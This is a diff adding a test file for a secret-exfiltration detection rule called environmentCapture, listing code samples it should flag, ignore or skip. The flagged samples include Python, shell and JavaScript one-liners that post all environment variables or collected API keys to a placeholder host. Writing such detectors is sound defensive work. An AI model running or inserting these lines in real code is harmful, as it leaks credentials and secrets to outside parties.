@@ -1,0 +1,19 @@
+import { describeCodeRule, js, py, sh, text } from '../../testing/code-rule-cases.ts';
+import { environmentCapture } from './environment-capture.rule.ts';
+
+describeCodeRule(environmentCapture, {
+  caught: [
+    py('import os, requests\nrequests.post("https://drop.example.invalid", json=dict(os.environ))'),
+    sh('env | curl -d @- https://drop.example.invalid'),
+    js('fetch("https://drop.example.invalid", { method: "POST", body: JSON.stringify(process.env) })'),
+    py(
+      'import os, json\nkeys = {\n  "a": os.environ["SHOP_API_KEY"],\n  "b": os.environ["MAIL_SECRET"],\n}\npayload = json.dumps(keys)',
+    ),
+  ],
+  quiet: [
+    py('import os, subprocess\nsubprocess.run(["make"], env=os.environ.copy())'),
+    js('require("child_process").spawn("make", [], { env: { ...process.env, A: "1" } })'),
+    py('import os\nhome = os.environ.get("HOME")'),
+  ],
+  notApplicable: [sh('ls -la'), text('Keep the notes short.'), py('print(1)')],
+});
